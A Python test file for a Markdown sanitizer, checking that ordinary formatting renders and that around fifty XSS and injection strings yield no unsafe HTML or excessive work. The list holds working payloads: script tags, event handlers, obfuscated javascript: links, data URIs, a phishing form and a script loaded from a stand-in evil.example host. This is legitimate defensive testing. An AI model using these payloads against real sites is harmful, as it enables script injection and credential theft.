"""Markdown made safe: what people write shows, and nothing that anybody writes runs, leads astray or costs much."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from records.prose import TAGS, clean, shown
from tests.effort import effort


class Elements(HTMLParser):
    """Collects every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def faults(html: str) -> list[str]:
    """What of an HTML is not to be in any page of ours."""
    found = []
    for tag, attrs in Elements(html).found:
        if tag not in TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            fine = {
                ("a", "href"): re.fullmatch(r"(?i)(https://|mailto:).*", value or "", re.DOTALL) is not None,
                ("a", "rel"): value == "noopener nofollow",
                ("span", "class"): value == "mention",
                ("ol", "start"): (value or "").isdecimal(),
            }.get((tag, name), False)
            if not fine:
                found.append(f"{tag} {name}={value}")
        if tag == "a" and "href" in attrs and attrs.get("rel") != "noopener nofollow":
            found.append("a link without rel")
    return found


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Two *words* and **more**", "<p>Two <em>words</em> and <strong>more</strong></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("# Big\n### Small", "<h4>Big</h4>\n<h6>Small</h6>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("4. a", '<ol start="4">\n<li>a</li>\n</ol>\n'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("`x < 1`", "<p><code>x &lt; 1</code></p>\n"),
        ("```sql\nSELECT 1\n```", "<pre><code>SELECT 1\n</code></pre>\n"),
        ("~~gone~~", "<p><s>gone</s></p>\n"),
        ("[here](https://a.example/x)", '<p><a href="https://a.example/x" rel="noopener nofollow">here</a></p>\n'),
        ("see https://a.example/x.", '<p>see <a href="https://a.example/x" rel="noopener nofollow">https://a.example/x</a>.</p>\n'),
        ("[Bo](mailto:bo@example.org)", '<p><a href="mailto:bo@example.org" rel="noopener nofollow">Bo</a></p>\n'),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
    ],
)  # fmt: skip
def test_what_people_write_shows(text, html):
    assert shown(text) == html


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body { display: none }</style><p style='position: fixed'>x</p>",
    "<form action=https://evil.example><input name=x><button>Sign in</button></form>",
    "<!--[if IE]><script>alert(1)</script><![endif]--> <!-- x -->",
    "<?php x ?> <![CDATA[<script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\x)",
    "[x](/projects/MRW-1/move)",
    "[x](http://evil.example)",
    "[x](https:evil.example)",
    "[x](ｊavascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: https://a.example 'onclick=alert(1)'",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "![x][1]\n\n[1]: data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)> <data:text/html,x> <https://a.example/\" onclick=alert(1)>",
    "https://a.example/\"onmouseover=alert(1) https://a.example/<script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "- <details open ontoggle=alert(1)>",
    "> <body onload=alert(1)>",
    "@<script>alert(1)</script> @\"onclick=\"alert(1)",
    "<a\x00href=javascript:alert(1)>x",
    "\u202etpircs\u202c<script>",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }} {% raw %} ${7*7} [[constructor]]",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_no_trick_gets_through(text):
    html = str(shown(text, ("@PM", '@"onclick="alert(1)', "@<script>")))
    assert faults(html) == []
    assert "\u202e" not in html
    assert "\x00" not in html


def test_it_is_source_text_that_shows_where_something_is_not_taken():
    assert shown("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"
    assert shown("[x](javascript:alert(1))") == "<p>[x](javascript:alert(1))</p>\n"


PIECES = [*"<>[]()!`*_~#&;:/\\\"'= \n@-|x", "script", "javascript:", "https://a.example", "onclick"]


@settings(max_examples=150)
@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join))
def test_whatever_is_written_stays_within_the_list(text):
    assert faults(str(shown(text, ("@x",)))) == []


@pytest.mark.parametrize(
    "text",
    [
        *(mark * 10_000 for mark in "[>*<"),
        *("- " * 5000, "a**" * 3333, "[a](" * 2500, "![](" * 2500, "_a " * 3333, "`" * 9999),
        *("[a]: b\n" * 1400, "@PM " * 2500, "https://" * 1250),
        "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|x\n" * 3000,
    ],
    ids=range(14),
)  # fmt: skip
def test_what_is_made_to_be_slow_or_big_is_neither(text):
    with effort() as spent:
        html = shown(text, ("@PM",))
    assert (
        spent.calls < 2_000_000
    )  # 1.1 million for the worst of them; work that grows with the square is a hundred times that
    assert len(html) < 100_000
    assert faults(str(html)) == []


def test_mentions_stand_out_but_not_in_code_or_links():
    html = shown("@PM, @Priya Nair: `@PM` [@PM](https://a.example) x@PM @PMO", ("@PM", "@Priya", "@Priya Nair"))
    assert html == (
        '<p><span class="mention">@PM</span>, <span class="mention">@Priya Nair</span>: <code>@PM</code> '
        '<a href="https://a.example" rel="noopener nofollow">@PM</a> x@PM @PMO</p>\n'
    )


def test_what_is_kept_is_the_source_without_what_steers():
    assert clean("  # Hi\r\nthere\r\x00<b>\u202e\ufeff \n") == "# Hi\nthere\n<b>"
